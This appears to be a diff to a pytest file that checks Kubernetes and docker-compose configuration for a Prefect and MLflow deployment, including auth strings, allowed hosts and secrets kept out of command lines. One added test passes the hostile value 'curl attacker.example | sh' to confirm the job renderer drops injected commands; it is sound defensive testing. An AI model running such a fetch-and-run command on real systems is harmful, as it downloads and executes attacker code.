@@ -72,9 +72,10 @@ def render(template: dict[str, Any], **given: Any) -> dict[str, Any]:
 @pytest.mark.parametrize("gpus", [0, 8])
 def test_rendered_job_is_valid(tmp_path, gpus):
     template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
-    job = render(template, name="run", command=["prefect", "flow-run", "execute"], gpus=gpus)["job_manifest"]
+    job = render(template, name="run", gpus=gpus)["job_manifest"]
     container = job["spec"]["template"]["spec"]["containers"][0]
     assert container["resources"]["limits"]["nvidia.com/gpu"] == gpus
+    assert container["args"] == ["prefect", "flow-run", "execute"]
     assert job["spec"]["parallelism"] == 1 and "parallelism" not in job["spec"]["template"]["spec"]
     # The worker turns the mapping into a list of names and values, and asks Kubernetes for a name.
     container["env"] = [{"name": name, "value": value} for name, value in container["env"].items()]
@@ -88,6 +89,16 @@ def test_every_variable_of_the_job_template_is_used_and_known():
     template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
     used = set(re.findall(r"\{\{ (\w+) \}\}", json.dumps(template["job_configuration"])))
     assert used == set(template["variables"]["properties"])
+
+
+def test_a_run_on_the_cluster_cannot_bring_a_command():
+    import jsonschema
+
+    template = json.loads((INFRA / "kubernetes/base/job-template.json").read_text())
+    rendered = render(template, name="run", command="curl attacker.example | sh", args=["sh"])
+    assert "attacker" not in json.dumps(rendered) and "command" not in rendered
+    with pytest.raises(jsonschema.ValidationError):
+        jsonschema.validate({"command": "id"}, template["variables"])
 
 
 def compose() -> dict[str, Any]:
@@ -127,7 +138,34 @@ def test_only_loopback_is_published():
     assert ports and all(port.startswith("127.0.0.1:") for port in ports)
 
 
-SECRET = re.compile(r"PASSWORD|API_KEY|ACCESS_KEY")
+SECRET = re.compile(r"PASSWORD|API_KEY|ACCESS_KEY|AUTH_STRING$")
+
+
+def server_of(name: str) -> dict[str, Any]:
+    """Command, and variables that are given by value, of a server in both files."""
+    on_cluster = (INFRA / f"kubernetes/base/{name}.yaml").read_text()
+    (pod,) = [each for each in yaml.safe_load_all(on_cluster) if each["kind"] == "Deployment"]
+    (container,) = pod["spec"]["template"]["spec"]["containers"]
+    variables = {each["name"]: each.get("value", each.get("valueFrom")) for each in container["env"]}
+    service = compose()["services"][name]
+    return {"compose": (service["command"], service["environment"]), "kubernetes": (container["args"], variables)}
+
+
+@pytest.mark.parametrize("where", ["compose", "kubernetes"])
+def test_prefect_asks_for_its_password_and_answers_to_its_names_alone(where):
+    command, variables = server_of("prefect-server")[where]
+    assert "armature.prefect_server:create_app" in command
+    assert variables["PREFECT_SERVER_API_AUTH_STRING"]
+    for hosts in (variables["ARMATURE_ALLOWED_HOSTS"], variables["PREFECT_SERVER_CORS_ALLOWED_ORIGINS"]):
+        assert hosts and "*" not in hosts
+
+
+@pytest.mark.parametrize("where", ["compose", "kubernetes"])
+def test_no_password_is_in_a_command_line(where):
+    command, variables = server_of("mlflow")[where]
+    assert "postgresql://" in variables["MLFLOW_BACKEND_STORE_URI"]
+    commands = [json.dumps(each.get("command", "")) for each in compose()["services"].values()] + [json.dumps(command)]
+    assert not [each for each in commands if SECRET.search(each)]
 
 
 def test_compose_takes_secrets_from_its_environment():
